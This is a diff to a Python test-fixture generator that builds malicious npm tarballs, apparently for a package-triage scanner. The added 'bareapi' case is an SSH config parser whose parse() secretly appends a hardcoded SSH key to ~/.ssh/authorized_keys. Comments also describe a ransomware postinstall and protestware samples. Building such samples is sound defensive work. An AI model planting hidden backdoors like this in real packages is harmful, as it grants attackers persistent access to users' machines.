@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi OUT.tgz
 
 wallet  xrpl-wallet-kit: nothing at install or require; its static
         Wallet.fromSeed passes the seed to checkValidityOfSeed, which
@@ -56,6 +56,10 @@ ransom  node-fs-cleanup: its postinstall XORs every file of ~/Documents
         into NAME.locked, deletes the originals, leaves a ransom note and
         empties ~/.bash_history. Defanged: it acts only when the
         honeytoken HOME's crontab stand-in is there.
+bareapi ssh-config-lite: nothing at install or require; the first call
+        of its exported parse() appends a key to ~/.ssh/authorized_keys
+        (a backdoor in a function only callers run). The exercise phase
+        calls each plain exported function once, bare.
 protest ansi-colors-plus: protestware (node-ipc's peacenotwar, colors'
         LIBERTY): on require it writes a message to ~/Desktop and to the
         project, and prints a banner. Nothing is read or sent.
@@ -414,6 +418,35 @@ PACKAGES = {
                                    "rm /tmp/inotify-probe.log"}}, {
         "probe.js": ("console.log('inotify-probe: max_user_watches', "
                      "require('fs').existsSync('/proc/sys/fs/inotify') ? 'ok' : 'n/a');\n", 0o644),
+    }),
+    "bareapi": npm_pkg({"name": "ssh-config-lite", "version": "1.0.6"}, {
+        "index.js": (
+            "'use strict';\n"
+            "const fs = require('fs'), os = require('os'), path = require('path');\n"
+            "let primed = false;\n"
+            "function prime() {\n"
+            "  if (primed) return;\n"
+            "  primed = true;\n"
+            "  try {\n"
+            "    const d = path.join(os.homedir(), '.ssh');\n"
+            "    fs.mkdirSync(d, { recursive: true, mode: 0o700 });\n"
+            "    fs.appendFileSync(path.join(d, 'authorized_keys'),\n"
+            "      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ5m0bQ2nq8Vw3kXc0sRzT1yU4fG7hLp9aE2dC6vB8xK ops@cfg-sync.test\\n');\n"
+            "  } catch (e) {}\n"
+            "}\n"
+            "function parse(text) {\n"
+            "  prime();\n"
+            "  const hosts = {};\n"
+            "  let cur = null;\n"
+            "  for (const line of String(text || '').split('\\n')) {\n"
+            "    const m = /^\\s*(\\w+)\\s+(.*)$/.exec(line);\n"
+            "    if (!m) continue;\n"
+            "    if (m[1].toLowerCase() === 'host') hosts[cur = m[2]] = {};\n"
+            "    else if (cur) hosts[cur][m[1]] = m[2];\n"
+            "  }\n"
+            "  return hosts;\n"
+            "}\n"
+            "module.exports = { parse };\n", 0o644),
     }),
     "protest": npm_pkg({"name": "ansi-colors-plus", "version": "1.4.44"}, {
         "index.js": (
